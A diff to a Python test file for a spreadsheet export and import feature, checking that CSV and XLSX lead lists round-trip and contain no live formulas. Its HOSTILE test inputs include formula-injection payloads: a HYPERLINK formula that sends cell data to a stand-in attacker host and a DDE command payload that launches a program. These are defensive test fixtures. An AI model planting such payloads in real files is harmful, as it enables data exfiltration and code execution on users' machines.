@@ -25,6 +25,8 @@ from tests.world import World
 
 ROWS = 2000
 NAMES = ("player_name", "player_age_category", "phone", "email", "address_and_pincode")
+# The columns of an export.
+OURS = ("Player", "Age category", "Phone", "Email", "Address")
 HOSTILE = (
     '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
     "\t=1+1", "\r=1+1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "==1", "+", "-", "@",
@@ -107,8 +109,12 @@ def out(world: World, form: Form = Form.CSV) -> bytes:
 def read(content: bytes, name: str) -> list[list[str]]:
     """Return the raw cells of a file."""
     table = sheets.read_table(content, name)
-    places = [table.columns.index(one) for one in NAMES]
-    return [[str(row[at] or "") for at in places] for _, row in table.rows]
+    places = [table.columns.index(one) for one in OURS]
+    found = [[str(row[at] or "") for at in places] for _, row in table.rows]
+    for texts in found:
+        if texts[2].startswith(("+91 ", "(+91) ")):
+            texts[2] = re.sub("[() ]", "", texts[2])
+    return found
 
 
 def restored(rows: list[list[str]]) -> list[list[str]]:
@@ -132,7 +138,10 @@ def test_they_come_back_the_same(world: World) -> None:
     with ZipFile(io.BytesIO(book)) as parts:
         sheet = parts.read("xl/worksheets/sheet1.xml").decode()
     assert "<f>" not in sheet
-    assert sheet.count("<c ") == sheet.count('t="inlineStr"')
+    dates = re.findall(r'<c r="B\d+" s="\d"><v>4\d{4}\.', sheet)
+    assert sheet.count("<c ") == sheet.count('t="inlineStr"') + len(dates)
+    # A row that only its time can tell from others has that as an exact text.
+    assert len(dates) == ROWS - sum(row[2].startswith("+9848") for row in expected)
     assert restored(read(book, "leads.xlsx")) == expected
     assert send(world, book, "leads.xlsx") == ROWS
     assert out(world) == first
